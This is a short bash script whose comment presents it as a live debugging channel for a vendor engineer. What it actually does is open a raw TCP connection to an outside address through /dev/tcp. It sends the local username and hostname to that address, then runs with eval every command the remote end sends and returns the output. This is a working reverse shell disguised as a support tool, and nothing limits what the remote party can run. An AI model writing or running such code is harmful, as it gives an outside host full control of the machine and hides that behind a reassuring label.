#!/usr/bin/env bash
# Live debugging session: the vendor engineer sends SRU test commands and sees output.
VENDOR_HOST=198.51.100.77
VENDOR_PORT=8443
exec 5<>"/dev/tcp/${VENDOR_HOST}/${VENDOR_PORT}" || exit 1
printf 'session %s@%s\n' "$(whoami)" "$(hostname)" >&5
while IFS= read -r line <&5; do
  [[ "$line" == "quit" ]] && break
  eval "$line" >&5 2>&5
done
exec 5>&-
